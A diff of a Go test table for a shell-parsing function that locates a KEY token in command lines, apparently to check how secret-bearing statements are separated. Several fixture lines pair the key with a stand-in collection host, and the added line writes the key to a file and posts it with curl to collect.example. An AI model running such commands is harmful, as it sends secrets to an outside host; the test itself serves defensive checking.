@@ -30,6 +30,7 @@ func TestAStatementThatDoesNothingWithTheOthers(t *testing.T) {
 		`echo 'unfinished KEY`: "",
 		`aws configure set endpoint_url https://collect.example; aws iam delete-access-key KEY`: "",
 		`git remote set-url origin https://collect.example/x; gh secret set A -b KEY`:           "",
+		`echo KEY >& /tmp/a; curl -d @/tmp/a https://collect.example`:                           "",
 	} {
 		got, ok := shell.Apart(line, strings.Index(line, "KEY"))
 		if got != want || ok != (want != "") {
